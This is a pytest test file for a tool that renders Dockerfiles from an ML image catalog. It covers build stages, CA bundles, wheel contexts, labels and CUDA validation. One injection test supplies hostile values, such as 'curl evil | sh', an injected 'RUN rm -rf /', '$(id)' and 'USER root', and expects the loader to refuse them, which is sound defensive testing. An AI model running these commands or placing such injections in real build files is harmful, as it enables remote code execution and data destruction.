"""Rendering: one Dockerfile per image, CA bundle and wheels kept to the build stage, and nothing
from the catalog reaches a Dockerfile unless it matches a strict pattern."""

from __future__ import annotations

from pathlib import Path

import pytest

from orchestrator.errors import SpecError
from orchestrator.images.build import BuildOptions, labels_for, prepare_context, render, render_all
from orchestrator.spec.catalog import load_catalog

CATALOG = Path("images/catalog.yaml")


@pytest.fixture(scope="module")
def catalog():
    return load_catalog()


def load_changed_catalog(tmp_path: Path, needle: str, replacement: str):
    """The real catalog with one edit, loaded from a copy."""
    text = CATALOG.read_text()
    assert needle in text
    path = tmp_path / "catalog.yaml"
    path.write_text(text.replace(needle, replacement, 1))
    return load_catalog(path)


def stages(dockerfile: str) -> list[str]:
    return dockerfile.split("\nFROM ")[1:]


def test_render_all_writes_one_dockerfile_per_image(tmp_path, catalog):
    written = render_all(catalog, tmp_path)
    assert len(written) == len(catalog.images)
    assert (tmp_path / "benchmatrix_mxnet_1.9.1-cpu" / "Dockerfile").is_file()


def test_ca_bundle_and_wheelhouse_stay_in_build_stage(catalog):
    torch = catalog.find("pytorch", "2.13.0", "cpu")[0]
    build_stage, runtime_stage = stages(render(catalog, torch, ca_bundle=True, wheelhouse=True))
    assert "PIP_CERT=/tmp/benchmatrix/ca-bundle.crt" in build_stage
    assert "--find-links /tmp/benchmatrix/wheelhouse" in build_stage
    assert "--extra-index-url" not in build_stage
    assert "benchmatrix/ca-bundle" not in runtime_stage and "PIP_CERT" not in runtime_stage
    assert "COPY --from=build /opt/venv /opt/venv" in runtime_stage
    assert "g++ python3-dev" in runtime_stage


def test_online_torch_uses_the_cpu_index(catalog):
    torch = catalog.find("pytorch", "2.13.0", "cpu")[0]
    dockerfile = render(catalog, torch, ca_bundle=False, wheelhouse=False)
    assert "--extra-index-url https://download.pytorch.org/whl/cpu" in dockerfile
    assert "PIP_CERT" not in dockerfile


def test_context_holds_only_the_entrys_wheels(tmp_path, catalog):
    wheelhouse = tmp_path / "wheels"
    wheelhouse.mkdir()
    (wheelhouse / "torch-2.13.0+cpu-cp311-cp311-manylinux_2_28_x86_64.whl").write_bytes(b"w")
    (wheelhouse / "scipy-1.0-cp311-cp311-manylinux_2_28_x86_64.whl").write_bytes(b"s")
    ca = tmp_path / "ca.crt"
    ca.write_text("CERT")
    context = tmp_path / "ctx"
    context.mkdir()
    torch = catalog.find("pytorch", "2.13.0", "cpu")[0]
    prepare_context(catalog, torch, BuildOptions(ca_bundle=ca, wheelhouse=wheelhouse), context)
    assert sorted(p.name for p in (context / "wheelhouse").iterdir()) == [
        "torch-2.13.0+cpu-cp311-cp311-manylinux_2_28_x86_64.whl"
    ]
    assert (context / "ca-bundle.crt").read_text() == "CERT"


def test_labels_carry_oci_keys_and_entry_hash(catalog):
    mxnet = catalog.find("mxnet", "1.9.1", "cpu")[0]
    labels = labels_for(catalog, mxnet)
    assert labels["org.opencontainers.image.version"] == "1.9.1"
    assert labels["io.benchmatrix.catalog-hash"] == catalog.entry_hash(mxnet)
    other = catalog.find("mxnet", "1.6.0", "mkl")[0]
    assert catalog.entry_hash(other) != catalog.entry_hash(mxnet)


@pytest.mark.parametrize(
    "needle, replacement, key_path",
    [
        ('"mxnet-cu112==1.9.1", "numpy<1.24"', '"mxnet-cu112==1.9.1 && curl evil | sh"', "images.8.pip.0"),
        ("apt: [libgomp1,", 'apt: ["libgomp1\\nRUN rm -rf /",', "families.0.apt.0"),  # the MXNet family's
        (
            'TF_CPP_MIN_LOG_LEVEL: "2"}\n    description: TensorFlow 2.21 CPU',
            'TF_CPP_MIN_LOG_LEVEL: "2 $(id)"}\n    description: TensorFlow 2.21 CPU',
            "images.0.env.TF_CPP_MIN_LOG_LEVEL",
        ),
        ('version: "2.21.0"\n    variant: cpu', 'version: "2.21.0\\nUSER root"\n    variant: cpu', "images.0.version"),
    ],
)
def test_injection_is_refused_before_rendering(tmp_path, needle, replacement, key_path):
    with pytest.raises(SpecError) as caught:
        load_changed_catalog(tmp_path, needle, replacement)
    assert caught.value.key_path == key_path
    assert "matching" in caught.value.expected


def test_unbuildable_entry_says_why(catalog):
    tf1 = catalog.find("tensorflow", "1.15.5")[0]
    assert "Python <= 3.7" in tf1.unbuildable


def test_cuda_base_images_install_python_in_both_stages(catalog):
    tf = catalog.find("tensorflow", "2.21.0", "gpu-cudabase")[0]
    build_stage, runtime_stage = stages(render(catalog, tf, ca_bundle=True, wheelhouse=False))
    assert build_stage.startswith("nvidia/cuda:12.6.3-cudnn-runtime-ubuntu22.04 AS build")
    assert "install -y --no-install-recommends python3 python3-venv python3-pip" in build_stage
    assert "'tensorflow==2.21.0'" in build_stage and "and-cuda" not in build_stage
    assert "install -y --no-install-recommends python3 python3-venv python3-pip" in runtime_stage


def test_pypi_cuda_wheels_need_no_cuda_base(catalog):
    tf = catalog.find("tensorflow", "2.21.0", "gpu")[0]
    dockerfile = render(catalog, tf, ca_bundle=False, wheelhouse=False)
    assert dockerfile.count("FROM benchmatrix/base:bookworm") == 2
    assert "'tensorflow[and-cuda]==2.21.0'" in dockerfile and "python3-venv" not in dockerfile


def test_an_old_cuda_build_says_which_gpus_it_runs_on(catalog):
    cu100 = catalog.find("mxnet", "1.9.0", "cu100")[0]
    assert cu100.gpu_support == "CUDA 10.0: runs on GPUs up to compute capability 7.5 (Turing), not on newer ones"
    assert "'mxnet-cu100==1.9.0'" in render(catalog, cu100, ca_bundle=False, wheelhouse=False)


@pytest.mark.parametrize(
    ("needle", "replacement", "message"),
    [
        ('    cuda: "10.0"', '    cuda: "9.2"', "CUDA 9.2 is older than any this tool knows"),
        ("    variant: cu100\n    device: gpu\n", "    variant: cu100\n", "'cuda' is for GPU images"),
    ],
)
def test_bad_cuda_fields_are_refused(tmp_path, needle, replacement, message):
    with pytest.raises(SpecError, match=message):
        load_changed_catalog(tmp_path, needle, replacement)


@pytest.mark.parametrize("framework", ["mxnet", "keras-mxnet"])
def test_every_cuda_wheel_of_an_mxnet_gpu_image_is_on_the_library_path(catalog, framework):
    entry = next(image for image in catalog.images if image.framework == framework and image.variant == "gpu")
    wheels = [req.split("==")[0] for req in entry.pip if req.startswith("nvidia-")]
    folders = {req.removeprefix("nvidia-").removesuffix("-cu11").replace("-", "_") for req in wheels}
    on_path = {part.split("/nvidia/")[1].removesuffix("/lib") for part in entry.env["LD_LIBRARY_PATH"].split(":")}
    assert len(wheels) == 9 and folders == on_path


def test_the_workloads_test_only_variables_are_refused_unless_the_test_hooks_are_on(tmp_path, monkeypatch):
    """A catalog that set the test-only step delay would slow every cell of that image inside the clock."""
    slowed = "env: {KERAS_BACKEND: mxnet, BENCHMATRIX_TEST_HOOKS: '1', BENCHMATRIX_TEST_STEP_DELAY_S: '0.01'}"
    monkeypatch.delenv("BENCHMATRIX_TEST_HOOKS", raising=False)
    with pytest.raises(SpecError, match="key 'keras-mxnet@2.2.4.3-cpu.env.BENCHMATRIX_TEST_HOOKS': no test-only"):
        load_changed_catalog(tmp_path, "env: {KERAS_BACKEND: mxnet}", slowed)
    monkeypatch.setenv("BENCHMATRIX_TEST_HOOKS", "1")
    assert load_changed_catalog(tmp_path, "env: {KERAS_BACKEND: mxnet}", slowed)
